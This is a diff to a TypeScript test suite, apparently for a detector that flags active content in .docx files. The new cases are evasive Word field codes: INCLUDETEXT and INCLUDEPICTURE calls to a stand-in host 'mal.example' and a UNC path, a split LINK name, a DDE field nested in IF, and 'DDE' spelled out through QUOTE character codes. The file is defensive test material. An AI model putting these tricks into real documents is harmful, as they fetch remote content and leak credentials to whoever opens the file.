@@ -11,6 +11,14 @@ const docx = (...more: ReturnType<typeof part>[]) =>
   zipOf([part('[Content_Types].xml'), part('word/document.xml'), ...more])
 const rels = (type: string, mode = 'External') =>
   part(RELS, `<Relationship Type="http://x/${type}" Target="https://mal.example/a" TargetMode="${mode}"/>`)
+const BEGIN = '<w:fldChar w:fldCharType="begin"/>'
+/** A field in pieces, in a header of its own. */
+const field = (...pieces: readonly string[]) =>
+  part(
+    `word/header${pieces.length}${pieces[0]?.length}.xml`,
+    BEGIN +
+      pieces.map((piece) => (piece.startsWith('<') ? piece : `<w:instrText>${piece}</w:instrText>`)).join(''),
+  )
 const TEMPLATE = '<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="https://x"/>'
 const odt = (...parts: ReturnType<typeof part>[]) => zipOf([part('mimetype', ODT), ...parts])
 
@@ -41,6 +49,17 @@ describe('active content', () => {
       'data of a program',
       () => docx(part('word/header1.xml', '<w:instrText>DDE</w:instrText><w:instrText>AUTO c</w:instrText>')),
     ],
+    ['another file', () => docx(field('INCLUDETEXT "https://mal.example/a.docx"'))],
+    [
+      'a remote picture that a field asks for',
+      () => docx(field(' includepicture ', '"\\\\\\\\mal\\\\a.png"')),
+    ],
+    [
+      'a name in pieces after another field',
+      () => docx(field('PAGE'), field('LI', 'NK Word.Document.8 "C:a"')),
+    ],
+    ['one inside another', () => docx(field('IF 1 = 1 ', `${BEGIN}<w:instrText>DDE c</w:instrText>`))],
+    ['letters by their codes', () => docx(field('SET c "', 'QUOTE 68 68 69 "'))],
     ['an object', () => docx(part('word/embeddings/oleObject1.bin'))],
     ['a part of another format', () => docx(rels('aFChunk', 'Internal'))],
     [
@@ -56,7 +75,9 @@ describe('active content', () => {
       'word/document.xml',
       '<w:instrText>HYPERLINK "https://dde.example/hidden"</w:instrText>',
     )
-    for (const one of [rels('hyperlink'), rels('attachedTemplate', 'Internal'), fields])
+    const ordinary = field('TOC \\o "1-3" \\h', `${BEGIN}<w:instrText>PAGEREF _Toc1 \\h</w:instrText>`)
+    const quoted = field('QUOTE "12 mars 2026"', `${BEGIN}<w:instrText>MERGEFIELD Link nom</w:instrText>`)
+    for (const one of [rels('hyperlink'), rels('attachedTemplate', 'Internal'), fields, ordinary, quoted])
       expect(await reproachTo(DOCX, Buffer.from(await docx(one)))).toBeUndefined()
   })
 
